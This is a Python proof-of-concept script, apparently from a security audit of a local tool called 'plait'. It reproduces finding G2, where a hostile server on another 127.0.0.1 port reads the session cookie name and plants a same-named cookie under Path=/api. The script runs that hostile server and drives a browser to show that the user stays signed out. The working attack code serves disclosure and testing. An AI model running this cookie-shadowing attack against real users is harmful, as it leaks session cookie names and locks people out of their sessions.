# G2: a server on another port of 127.0.0.1 (another local user's, or any local dev server showing hostile
# content) that the signed-in user visits once receives the plait session cookie (browsers send a host's cookies to
# every port; README says so) and so learns its name; it answers with a cookie of the same name and Path=/api.
# The browser then sends that cookie first on every API request, the agent takes the first cookie of its name, and
# the page is signed out; signing in again with a fresh `plait gui` code succeeds but the next request is 401
# again: the page stays unusable in that browser until the user clears the site's cookies.
# Usage: python3 g2_cookie_shadow.py [path]   (path of the planted cookie, default /api)
import http.server, json, sys, threading, time
import hg, cdp

plant_path = sys.argv[1] if len(sys.argv) > 1 else "/api"
seen = {}


class Hostile(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        cookie = self.headers.get("Cookie", "")
        seen["cookie"] = cookie
        names = [c.split("=")[0].strip() for c in cookie.split(";") if c.strip().startswith("plait-session-")]
        self.send_response(200)
        for n in names:
            self.send_header("Set-Cookie", f"{n}=planted; Path={plant_path}; Max-Age=31536000; SameSite=Lax")
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<p>nothing to see</p>")

    def log_message(self, *a):
        pass


srv = http.server.HTTPServer(("127.0.0.1", 18023), Hostile)
threading.Thread(target=srv.serve_forever, daemon=True).start()
h = hg.make_home("g2", 18021, "127.0.0.1:18022")
agent = hg.start_agent(h)
browser = None
try:
    a = hg.api_addr(h)
    H = {"Authorization": "Bearer " + hg.token(h)}
    hg.req(a, "POST", "/api/edit", {"op": "list.add", "title": "Groceries"}, H)
    browser = cdp.Browser(18092)

    def page_state(label):
        st = browser.js("""(async () => {
          await new Promise(r => setTimeout(r, 1500));
          return {app_visible: !document.getElementById('app').hidden,
                  login_visible: !document.getElementById('login').hidden,
                  lists: document.querySelectorAll('#lists section').length,
                  login_message: document.getElementById('login-message').textContent.trim().slice(0, 90)};
        })()""")
        print(f"{label}: {json.dumps(st)}")

    code, url = hg.login_code(h)
    browser.goto(url, 3)
    page_state("1 signed in with a code")
    browser.goto("http://127.0.0.1:18023/", 1.5)
    print("2 the hostile server on :18023 received Cookie:", seen.get("cookie", "")[:40] + "…")
    browser.goto(f"http://{a}/", 2)
    page_state("3 the plait page again")
    code, url = hg.login_code(h)
    browser.goto(url, 3)
    page_state("4 after signing in again with a new `plait gui` code")
    print("cookies the browser holds for 127.0.0.1:",
          [(c["name"], c["path"], c["value"][:8]) for c in browser.cookies() if c["name"].startswith("plait-session")])
finally:
    if browser:
        browser.close()
    hg.stop_agent(agent)
    srv.shutdown()
